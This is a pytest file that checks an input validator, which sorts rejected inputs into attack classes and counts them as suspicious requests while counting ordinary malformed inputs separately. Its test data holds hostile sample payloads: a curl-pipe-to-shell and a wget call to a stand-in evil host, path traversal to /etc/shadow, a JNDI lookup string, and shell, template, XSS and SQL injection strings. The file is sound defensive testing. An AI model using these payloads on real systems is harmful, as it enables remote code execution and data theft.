"""Which rejected inputs count as suspicious: attack classes only, never an ordinary mistake."""

from __future__ import annotations

from typing import Any

import pytest

from sphinxctl.metrics import REGISTRY
from sphinxctl.validation import ATTACK_CATEGORIES, CATEGORIES, classify, record_rejection

ATTACKS: list[tuple[Any, str]] = [
    ("../../../etc/shadow", "path-traversal"),
    ("; cat /etc/hosts", "path-traversal"),  # traversal outranks the command
    ("x; curl http://evil.example/x.sh | sh", "command-injection"),
    ("$(whoami)", "command-injection"),
    ("`id`", "command-injection"),
    ("a && wget http://evil.example", "command-injection"),
    ("${jndi:ldap://evil.example/a}", "template-injection"),
    ("{{7*7}}", "template-injection"),
    ("{% import os %}", "template-injection"),
    ("${7*7}", "template-injection"),
    ("<script>alert(1)</script>", "xss"),
    ("' OR '1'='1", "sql-injection"),
    ("1 UNION SELECT password FROM users", "sql-injection"),
    (2**256, "overflow"),
    (-(2**255) - 1, "overflow"),
    ("9" * 80, "overflow"),
    ("A" * 5000, "overflow"),
    (float("inf"), "overflow"),
]

ORDINARY: list[Any] = [
    "0x70997970C51812dc3A010C7d01b50e0d17dc79c8",  # a bad EIP-55 checksum
    "hello world",
    "1001",
    1001,
    -1,
    2**256 - 1,
    "9" * 78,
    "A" * 300,  # longer than a short text, not an overflow probe
    "ethereum mainnet",
    "Robert'); is a name",
    {"phi_score": 199, "recipient": None},
    [],
    True,
    "",
]


def test_every_class_but_other_is_an_attack() -> None:
    assert set(CATEGORIES) - ATTACK_CATEGORIES == {"other"}
    assert {category for _, category in ATTACKS} == set(ATTACK_CATEGORIES)


@pytest.mark.parametrize(("value", "category"), ATTACKS, ids=lambda v: repr(v)[:40])
def test_each_attack_class_moves_the_suspicious_counter_only(value: Any, category: str) -> None:
    suspicious = _sample("sphinxos_suspicious_requests_total", category=category)
    ordinary = _sample("sphinxos_invalid_requests_total")
    assert classify(value) == category
    assert record_rejection(value) == category
    assert _sample("sphinxos_suspicious_requests_total", category=category) == suspicious + 1
    assert _sample("sphinxos_invalid_requests_total") == ordinary


@pytest.mark.parametrize("value", ORDINARY, ids=lambda v: repr(v)[:40])
def test_an_ordinary_rejection_never_moves_the_suspicious_counter(value: Any) -> None:
    before = _suspicious_total()
    ordinary = _sample("sphinxos_invalid_requests_total")
    assert record_rejection(value) == "other"
    assert _suspicious_total() == before
    assert _sample("sphinxos_invalid_requests_total") == ordinary + 1


def _sample(name: str, **labels: str) -> float:
    return float(REGISTRY.get_sample_value(name, labels) or 0.0)


def _suspicious_total() -> float:
    return sum(_sample("sphinxos_suspicious_requests_total", category=c) for c in ATTACK_CATEGORIES)
